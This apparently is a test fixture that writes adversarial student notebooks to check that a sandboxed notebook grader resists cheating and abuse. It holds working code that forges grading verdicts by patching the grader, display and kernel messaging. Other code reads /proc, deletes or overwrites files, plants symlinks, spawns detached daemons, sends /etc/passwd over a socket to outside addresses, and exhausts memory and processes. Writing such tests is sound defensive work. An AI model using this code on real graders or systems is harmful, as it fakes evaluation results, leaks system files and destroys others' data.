"""Submissions that cheat or misbehave, for tests/test_grade_attacks.py (graded in the sandbox).

Every notebook answers the private exercises of tests/data/course_checks.py with the same honest
answers (p1 right: 3 points, p2 trainable: 2 of 3) and then tries one attack from issue 11: forging
verdicts, reaching outside the sandbox, exhausting memory, processes or output, or holding the
grader with timeouts. ``write_corpus`` writes them with the real paths of the test's folders
embedded (the worst case: the student knows exactly where everything is).
"""

from __future__ import annotations

import json
from pathlib import Path

import nbformat
from nbformat.v4 import new_code_cell, new_notebook

SETUP = "import scopelab as tf\nimport os, sys, time, json, subprocess"
P1_RIGHT = '''def tied_table():
    with tf.variable_scope("embed", reuse=tf.AUTO_REUSE):
        return tf.get_variable("table", shape=[10, 4])
'''
P2_TRAINABLE = '''def make_bias():
    with tf.variable_scope("head"):
        return tf.get_variable("bias", shape=[3], initializer=tf.zeros_initializer())
'''
P2_RIGHT = P2_TRAINABLE.replace("initializer=tf.zeros_initializer())",
                                "initializer=tf.zeros_initializer(), trainable=False)")
HONEST = [SETUP, P1_RIGHT, P2_TRAINABLE]

# A result that claims full marks, in the form the old in-kernel grader trusted.
FAKE_RESULTS = '''
FAKE = [{"exercise": k, "title": k, "status": "correct", "mode": "grading", "score": 3.0, "max_score": 3.0,
         "hidden_pending": 0, "headline": None,
         "checks": [{"id": c, "description": c, "visibility": "public", "passed": True, "score": 1.0,
                     "max_score": 1.0, "category": "", "message": ""} for c in ("a", "b", "c")]}
        for k in ("p1", "p2")]
FAKE_BUNDLES = [{"application/vnd.scopelab.check+json": f, "text/plain": "correct"} for f in FAKE]
'''

FORGERIES = {
    # the old grader's in-kernel entry points, replaced and swapped
    "forge_grading_module": FAKE_RESULTS + '''
import types, scopelab.exercises as E
from IPython.display import display
fake = types.ModuleType("scopelab.exercises.grading")
fake.grade_namespace = lambda *a, **k: FAKE
fake.emit = lambda *a, **k: [display(b, raw=True) for b in FAKE_BUNDLES]
sys.modules["scopelab.exercises.grading"] = fake
E.grading = fake
''',
    # the check machinery patched in the kernel: Exercise.check / judge and the check helpers
    "forge_checks": FAKE_RESULTS + '''
import scopelab.exercises.framework as F, scopelab.exercises.diagnose as D, scopelab.exercises.observation as O
from scopelab.exercises.result import CheckResult
always = lambda *a, **k: None
for name in ("expect_variable", "expect_values", "expect_count", "expect_same_object", "expect_absent"):
    setattr(D, name, always)
F.Exercise.check = lambda self, *a, **k: CheckResult(self.key, self.title, "correct", (), None, 0, "grading")
F.Exercise.judge = F.Exercise.check
O.Observation.from_record = classmethod(lambda cls, *a, **k: (_ for _ in ()).throw(SystemExit))
''',
    # IPython's display, a post-execute hook, an input transformer and a thread all show fake results
    "forge_display": FAKE_RESULTS + '''
import IPython.display
shell = get_ipython()
real_publish = shell.display_pub.publish
def publish(data, *a, **k):
    real_publish(data, *a, **k)
    for b in FAKE_BUNDLES:
        real_publish(b)
shell.display_pub.publish = publish
IPython.display.display = lambda *a, **k: [real_publish(b) for b in FAKE_BUNDLES]
''',
    "forge_hooks": FAKE_RESULTS + '''
from IPython.display import display
shell = get_ipython()
shell.events.register("post_run_cell", lambda result: [display(b, raw=True) for b in FAKE_BUNDLES])
shell.events.register("pre_execute", lambda: [display(b, raw=True) for b in FAKE_BUNDLES])
shell.input_transformers_post.append(lambda lines: ["print('the grader asked:', %r)\\n" % "".join(lines)])
''',
    "forge_thread": FAKE_RESULTS + '''
import threading
from IPython.display import display
def keep_showing():
    while True:
        for b in FAKE_BUNDLES:
            display(b, raw=True)
        time.sleep(0.05)
threading.Thread(target=keep_showing, daemon=True).start()
''',
    # the kernel's message sending: every message gets fake results attached or rewritten
    "forge_send": FAKE_RESULTS + '''
kernel = get_ipython().kernel
session = kernel.session
real_send = session.send
def send(stream, msg_or_type, content=None, *a, **k):
    if isinstance(content, dict) and "data" in content:
        content = {**content, "data": {**content["data"], **FAKE_BUNDLES[0]}}
    if isinstance(content, dict) and "user_expressions" in content:
        content = {**content, "user_expressions": {"request": {"status": "ok", "data": FAKE_BUNDLES[0]}}}
    return real_send(stream, msg_or_type, content, *a, **k)
session.send = send
''',
    # the data path itself: verdict fields injected into the records the collector sends
    "forge_record": '''
import scopelab.exercises.collect as C
real = C.send
def send(path, record):
    record = {**record, "status": "correct", "score": 99, "checks": "all passed", "headline": None}
    return real(path, record)
C.send = send
''',
}


def harms(paths: dict[str, str]) -> dict[str, str]:
    """Attacks on things outside the submission; ``paths`` are the test's real folders and files."""
    p = {k: json.dumps(v) for k, v in paths.items()}
    later = json.dumps(f"import time; time.sleep(4); open({paths['marker']!r}, 'w').write('still alive'); "
                       f"open({paths['results']!r}, 'w').write('hacked')")
    return {
        "harm_proc": f'''
found = {{}}
for probe in ("/proc/%d/cmdline" % os.getppid(), "/proc/1/cmdline", "/proc/%d/cwd" % os.getppid()):
    try:
        found[probe] = os.readlink(probe) if probe.endswith("cwd") else open(probe, "rb").read()[:200]
    except OSError as err:
        found[probe] = repr(err)
found["pids"] = sorted(int(d) for d in os.listdir("/proc") if d.isdigit())
print(found)
try:  # copy a classmate's answer
    victim = json.load(open({p["victim"]}))
    exec("\\n".join("".join(c["source"]) for c in victim["cells"] if "make_bias" in "".join(c["source"])))
    print("COPIED")
except OSError as err:
    print("no classmates here:", err)
''',
        "harm_files": f'''
for attempt in (lambda: open({p["victim"]}, "w").write("{{}}"),
                lambda: os.remove({p["victim"]}),
                lambda: open({p["sentinel"]}, "w").write("overwritten"),
                lambda: os.remove({p["sentinel"]}),
                lambda: open({p["package_probe"]}, "w").write("planted"),
                lambda: open("/etc/scopelab-planted", "w").write("planted"),
                lambda: __import__("shutil").rmtree({p["teacher_dir"]})):
    try:
        attempt()
        print("WROTE")
    except OSError as err:
        print("blocked:", type(err).__name__)
''',
        "harm_detached": f'''
later = {later}
subprocess.Popen([sys.executable, "-c", later, "scopelab-attack-marker"], start_new_session=True,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
if os.fork() == 0:  # a double-forked daemon in its own session
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", later, "scopelab-attack-marker"])
    os._exit(0)
os.wait()
''',
        "harm_symlink": f'''
for target in ({p["results"]}, {p["results_dir"]} + "/results.json"):
    try:
        os.symlink({p["sentinel"]}, target)
        print("PLANTED")
    except OSError as err:
        print("blocked:", type(err).__name__)
''',
        "harm_network": f'''
import socket
for address in (("127.0.0.1", {paths["port"]}), ("8.8.8.8", 53)):
    try:
        with socket.create_connection(address, timeout=3) as s:
            s.sendall(open("/etc/passwd", "rb").read())
        print("SENT")
    except OSError as err:
        print("blocked:", type(err).__name__)
''',
    }


LIMITS = {
    "limit_memory": [
        "try:\n    hog = bytearray(3 << 30)\nexcept MemoryError:\n    print('one process cannot take 3 GiB')\n",
        '''children = []
for _ in range(6):  # together past the notebook's limit, each under the per-process one
    pid = os.fork()
    if pid == 0:
        try:
            blocks = []
            for _ in range(10):
                blocks.append(b"\x01" * (20 << 20))  # touched, so resident
                time.sleep(0.05)
            time.sleep(60)
        finally:
            os._exit(0)
    children.append(pid)
for pid in children:
    os.waitpid(pid, 0)
''',
    ],
    "limit_processes": ['''procs = [subprocess.Popen(["sleep", "60"]) for _ in range(80)]
for proc in procs:
    proc.wait()
'''],
    "limit_output": ['''for i in range(100000):
    print("flood", i, "x" * 100)
'''],
}

TIMING = {
    # an interrupted cell first: the cells after it keep their outputs and answers
    "time_interrupted": [SETUP, "while True:\n    pass\n", P1_RIGHT, P2_TRAINABLE, "print('after the loop')"],
    # an answer that swallows the interrupt: killed, zero for p1 only
    "time_stubborn_answer": [SETUP, '''def tied_table():
    while True:
        try:
            time.sleep(0.1)
        except KeyboardInterrupt:
            pass
''', P2_TRAINABLE],
}


def _notebook(cells: list[str], name: str) -> nbformat.NotebookNode:
    nb = new_notebook(cells=[new_code_cell(src) for src in cells])
    nb.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3", "language": "python"}
    nb.metadata["scopelab"] = {"exercises": ["p1", "p2"]}
    for i, cell in enumerate(nb.cells):
        cell["id"] = f"{name}-{i}"
    return nb


def corpus(paths: dict[str, str]) -> dict[str, list[str]]:
    """Student name -> code cells."""
    notebooks = {"honest": HONEST, "victim": [SETUP, P1_RIGHT, P2_RIGHT]}
    notebooks |= {name: HONEST + [code] for name, code in FORGERIES.items()}
    notebooks |= {name: HONEST + [code] for name, code in harms(paths).items()}
    notebooks |= {name: HONEST + cells for name, cells in LIMITS.items()}
    notebooks |= TIMING
    return notebooks


def write_corpus(folder: Path, paths: dict[str, str]) -> list[str]:
    """Write every notebook (and one unreadable file) into ``folder``; returns the student names."""
    folder.mkdir(parents=True, exist_ok=True)
    names = []
    for name, cells in corpus(paths).items():
        nbformat.write(_notebook(cells, name), folder / f"{name}.ipynb")
        names.append(name)
    (folder / "unreadable.ipynb").write_text("{ this is not a notebook")
    return names + ["unreadable"]
